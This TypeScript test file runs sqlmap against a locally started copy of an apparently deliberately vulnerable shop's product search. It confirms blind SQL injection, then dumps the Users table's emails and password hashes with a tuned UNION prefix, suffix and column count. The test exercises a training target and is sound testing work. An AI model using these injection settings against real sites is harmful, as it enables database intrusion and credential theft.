import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type RunningShop, startShop } from '../support/shop.ts';
import { findTool, makeScratch, type Scratch, startTool } from './tools.ts';

const sqlmap = findTool('sqlmap', 'apt-get install sqlmap');

/** The longest run of the tool, in milliseconds. */
const patience = 120_000;

describe.skipIf(sqlmap.path === null)('sqlmap', () => {
  let shop: RunningShop;
  let scratch: Scratch;
  beforeAll(async () => {
    shop = await startShop({ data: null });
    scratch = makeScratch();
  });
  afterAll(async () => {
    await shop?.stop();
    scratch?.remove();
  });

  /** Points the tool at the product search, accepts the default answer to all its questions, and returns its output. */
  async function attack(...flags: readonly string[]): Promise<string> {
    const run = startTool(sqlmap, scratch, [
      ...['-u', `${shop.url}/rest/products/search?q=apple`, '-p', 'q', '--batch', '--disable-coloring'],
      ...['--dbms=sqlite', '--level=3', `--output-dir=${join(scratch.folder, 'output')}`, ...flags],
    ]);
    const deadline = setTimeout(() => run.child.kill('SIGKILL'), patience);
    const code = await run.ended;
    clearTimeout(deadline);
    expect([code, run.output()]).toEqual([0, expect.any(String)]);
    return run.output();
  }

  it('finds out on its own that the product search is injectable', { timeout: patience + 5000 }, async () => {
    const printed = await attack('--technique=B');
    expect(printed).toContain('sqlmap identified the following injection point');
    expect(printed).toMatch(/Parameter: q \(GET\)\s+Type: boolean-based blind/);
    expect(printed).toContain('back-end DBMS: SQLite');
  });

  it('dumps the users with the prefix and suffix that walkthroughs suggest', { timeout: patience + 5000 }, async () => {
    // Short payloads, since the search uses only 200 characters.
    const frame = ["--prefix='))", '--suffix=-- ', '--union-cols=9', '--union-char=1', '--no-escape'];
    await attack('--flush-session', '--technique=U', ...frame, '-T', 'Users', '-C', 'email,password', '--dump');
    const rows = dumped('Users.csv').split('\n');
    expect(rows).toContain('admin@juice-sh.op,0192023a7bbd73250516f069df18b500');
    expect(rows).toContain('jim@juice-sh.op,e541ca7ecf72b8d1286474fc613e5e45');
    expect(rows.filter((row) => /,[0-9a-f]{32}$/.test(row))).toHaveLength(22);
  });

  function dumped(name: string): string {
    const output = join(scratch.folder, 'output');
    const file = readdirSync(output, { recursive: true, encoding: 'utf8' }).find((path) => path.endsWith(name));
    return file === undefined ? '' : readFileSync(join(output, file), 'utf8');
  }
});
